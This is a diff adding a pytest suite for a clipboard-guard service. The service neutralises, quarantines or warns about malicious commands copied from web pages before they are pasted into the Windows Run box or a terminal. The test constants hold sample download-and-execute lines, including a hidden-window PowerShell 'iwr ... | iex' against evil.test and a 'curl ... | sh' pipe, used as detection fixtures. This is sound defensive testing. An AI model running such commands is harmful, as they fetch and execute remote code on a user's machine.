@@ -1,0 +1,300 @@
+"""The guard's decisions, with every OS part and the store faked: mode by mode, as a user meets it."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass
+
+import pytest
+
+from app.detection import Engine, Level, PasteTarget
+from app.events import Event
+from app.guard.neutralize import NEUTRAL_LINE
+from app.guard.provenance import Provenance
+from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning, digest
+from app.platform.base import KeyEvent, MouseEvent, WindowInfo
+
+MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
+SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
+INSTALLER = "irm https://get.scoop.sh | iex"
+WEB = Provenance(source_url="https://captcha.example/verify")
+
+
+class FakeStore:
+    def __init__(self) -> None:
+        self.events: list[Event] = []
+        self.quarantine_items: dict[int, str] = {}
+
+    def append(self, event: Event) -> int:
+        self.events.append(event.with_id(len(self.events) + 1))
+        return len(self.events)
+
+    def quarantine(self, event_id: int, original: str) -> int:
+        self.quarantine_items[event_id] = original
+        return event_id
+
+    def flush(self) -> bool:
+        return True
+
+    def apply_retention(self) -> int:
+        return 0
+
+    @property
+    def status(self) -> Mapping[str, object]:
+        return {"events": len(self.events)}
+
+    def kinds(self) -> list[str]:
+        return [e.kind for e in self.events]
+
+
+class FakeUI:
+    def __init__(self) -> None:
+        self.replaced: list[tuple[str, str]] = []
+        self.notes: list[tuple[str, str, int | None]] = []
+        self.warnings: list[PasteWarning] = []
+
+    def replace_clipboard(self, expected_digest: str, text: str) -> None:
+        self.replaced.append((expected_digest, text))
+
+    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None:
+        self.notes.append((title, message, restore_event_id))
+
+    def warn(self, warning: PasteWarning) -> None:
+        self.warnings.append(warning)
+
+    def state_changed(self) -> None:
+        pass
+
+
+@dataclass(frozen=True)
+class Gesture:
+    kind: str
+    hint: PasteTarget | None
+    time: float = 0.0
+
+
+class FakeSequence:
+    """Ctrl+V is a paste; the hint is whatever the test set."""
+
+    def __init__(self) -> None:
+        self.hint: PasteTarget | None = None
+
+    def feed(self, event: KeyEvent) -> Gesture | None:
+        if event.pressed and event.key == "v" and "ctrl" in event.modifiers:
+            return Gesture("paste", self.hint)
+        return None
+
+    def feed_mouse(self, event: MouseEvent) -> Gesture | None:
+        return Gesture("paste", self.hint) if event.button == "middle" and event.pressed else None
+
+
+class FakeClassifier:
+    def __init__(self, target: PasteTarget) -> None:
+        self.target = target
+
+    def classify(self, window: WindowInfo | None, hint: PasteTarget | None) -> PasteTarget:
+        return hint or self.target
+
+
+class FakeHolder:
+    def __init__(self) -> None:
+        self.held: list[str] = []
+        self.released = 0
+
+    def hold(self, text: str) -> None:
+        self.held.append(text)
+
+    def release(self) -> None:
+        self.released += 1
+
+
+CTRL_V = KeyEvent("v", True, frozenset({"ctrl"}), 0.0)
+RUN_BOX = WindowInfo("explorer.exe", "#32770", "Run")
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine()
+
+
+def make(
+    engine: Engine,
+    mode: str = "block",
+    target: PasteTarget = PasteTarget.RUN_DIALOG,
+    can_suppress: bool = True,
+    holder: FakeHolder | None = None,
+) -> tuple[GuardService, FakeStore, FakeUI]:
+    store, ui = FakeStore(), FakeUI()
+    service = GuardService(
+        engine, store, ui, FakeSequence(), FakeClassifier(target), lambda: RUN_BOX, can_suppress,
+        GuardSettings(mode=mode), holder=holder,
+    )  # fmt: skip
+    return service, store, ui
+
+
+def copy(service: GuardService, text: str, provenance: Provenance = WEB) -> None:
+    service.clipboard_changed(ClipboardChange(text, provenance))
+    service.process_pending()
+
+
+def test_block_mode_neutralises_a_malicious_clipboard_and_quarantines_it(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, MALICIOUS)
+    assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]
+    assert store.kinds() == ["clipboard_neutralized"]
+    event = store.events[0]
+    assert event.source == WEB.source_url and event.level == "malicious"
+    assert "https://" not in (event.text or "")  # stored defanged
+    assert store.quarantine_items[1] == MALICIOUS  # the original, restorable
+    title, _, restore = ui.notes[0]
+    assert "blocked" in title and restore == 1
+
+
+def test_the_guards_own_replacement_is_not_analysed_again(engine: Engine) -> None:
+    service, store, _ = make(engine)
+    copy(service, MALICIOUS)
+    copy(service, NEUTRAL_LINE)  # Qt reports the change the guard made itself
+    assert store.kinds() == ["clipboard_neutralized"]
+    assert service.current is not None and service.current.neutralized
+
+
+def test_pasting_after_neutralisation_records_the_attempt_without_swallowing(
+    engine: Engine,
+) -> None:
+    service, store, _ = make(engine)
+    copy(service, MALICIOUS)
+    assert service.on_key(CTRL_V) is False  # the clipboard is harmless now; let it paste
+    service.process_pending()
+    assert store.kinds()[-1] == "paste_blocked" and store.events[-1].action == "neutralized"
+
+
+def test_suspicious_paste_into_the_run_box_is_swallowed_and_warned(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, SUSPICIOUS)
+    assert ui.replaced == []  # suspicious text stays on the clipboard
+    assert service.on_key(CTRL_V) is True
+    service.process_pending()
+    assert store.kinds() == ["clipboard_flagged", "paste_blocked"]
+    (warning,) = ui.warnings
+    assert warning.target is PasteTarget.RUN_DIALOG and warning.source == WEB.source_url
+    assert store.events[-1].target == "run_dialog" and store.events[-1].action == "blocked"
+
+
+def test_paste_into_an_editor_is_left_alone(engine: Engine) -> None:
+    service, store, ui = make(engine, target=PasteTarget.OTHER)
+    copy(service, SUSPICIOUS)
+    assert service.on_key(CTRL_V) is False
+    service.process_pending()
+    assert ui.warnings == [] and store.kinds() == ["clipboard_flagged"]
+
+
+def test_warn_mode_never_changes_the_clipboard(engine: Engine) -> None:
+    service, store, ui = make(engine, mode="warn")
+    copy(service, MALICIOUS)
+    assert ui.replaced == []
+    assert service.on_key(CTRL_V) is True  # held where the system allows, and warned
+    service.process_pending()
+    assert store.kinds() == ["clipboard_flagged", "paste_blocked"] and ui.warnings
+
+
+def test_monitor_mode_only_records(engine: Engine) -> None:
+    service, store, ui = make(engine, mode="monitor")
+    copy(service, MALICIOUS)
+    assert service.on_key(CTRL_V) is False
+    service.process_pending()
+    assert ui.replaced == [] and ui.warnings == []
+    assert store.kinds() == ["clipboard_flagged", "paste_warned"]
+    assert store.events[-1].action == "logged"
+
+
+def test_an_installer_from_a_web_page_into_the_run_box_is_stopped(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, INSTALLER)
+    assert store.kinds() == ["clipboard_flagged"]  # info on its own, suspicious into Run
+    assert service.on_key(CTRL_V) is True
+
+
+def test_an_installer_into_a_terminal_is_fine(engine: Engine) -> None:
+    service, store, ui = make(engine, target=PasteTarget.TERMINAL)
+    copy(service, INSTALLER, Provenance())
+    assert store.kinds() == [] and service.on_key(CTRL_V) is False
+
+
+def test_clean_text_leaves_no_trace(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, "Meeting moved to 3pm")
+    assert store.events == [] and ui.replaced == [] and service.on_key(CTRL_V) is False
+
+
+def test_password_manager_secrets_are_never_analysed_or_stored(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, MALICIOUS, Provenance(secret=True))
+    assert store.events == [] and ui.replaced == [] and service.current is None
+
+
+def test_x11_holds_suspicious_text_and_refuses_guarded_requestors(engine: Engine) -> None:
+    holder = FakeHolder()
+    service, store, ui = make(
+        engine, target=PasteTarget.TERMINAL, can_suppress=False, holder=holder
+    )
+    copy(service, SUSPICIOUS)
+    assert holder.held == [SUSPICIOUS]
+    assert service.requestor_allowed(PasteTarget.OTHER) is True
+    assert service.requestor_allowed(PasteTarget.TERMINAL) is False
+    for _ in range(3):  # xterm asks for three formats in one paste
+        service.refused_paste(PasteTarget.TERMINAL, None)
+    service.process_pending()
+    assert store.kinds() == ["clipboard_flagged", "paste_blocked"] and len(ui.warnings) == 1
+    copy(service, "plain text again")
+    assert holder.released >= 1
+
+
+def test_paused_protection_does_nothing_until_resumed(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    service.pause(60)
+    copy(service, MALICIOUS)
+    assert ui.replaced == [] and service.on_key(CTRL_V) is False
+    service.resume()
+    copy(service, MALICIOUS)
+    assert ui.replaced
+    assert store.kinds() == ["protection_paused", "protection_resumed", "clipboard_neutralized"]
+
+
+def test_trusted_site_suspicious_paste_is_only_logged(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    service.settings.trusted_sites = ("captcha.example",)
+    copy(service, SUSPICIOUS)
+    assert service.on_key(CTRL_V) is False and ui.warnings == []
+
+
+def test_a_failing_hook_never_raises(engine: Engine) -> None:
+    service, _, _ = make(engine)
+
+    def broken(event: KeyEvent) -> None:
+        raise RuntimeError("boom")
+
+    service.sequence.feed = broken  # type: ignore[method-assign]
+    assert service.on_key(CTRL_V) is False
+
+
+def test_the_hook_only_looks_up(engine: Engine) -> None:
+    import time
+
+    service, _, _ = make(engine, target=PasteTarget.OTHER)
+    copy(service, SUSPICIOUS)
+    times = []
+    for _ in range(20_000):
+        start = time.perf_counter()
+        service.on_key(CTRL_V)
+        times.append(time.perf_counter() - start)
+    times.sort()
+    assert times[int(len(times) * 0.99)] < 0.0002  # the hook's budget: 0.2 ms at the 99th
+
+
+def test_status_reports_mode_and_counts(engine: Engine) -> None:
+    service, _, _ = make(engine, mode="warn")
+    copy(service, SUSPICIOUS)
+    status = service.status()
+    assert status["mode"] == "warn" and status["protection"] == "on"
+    assert status["counts"]["flagged"] == 1  # type: ignore[index]
+    assert Level.SUSPICIOUS  # the level enum stays importable for callers
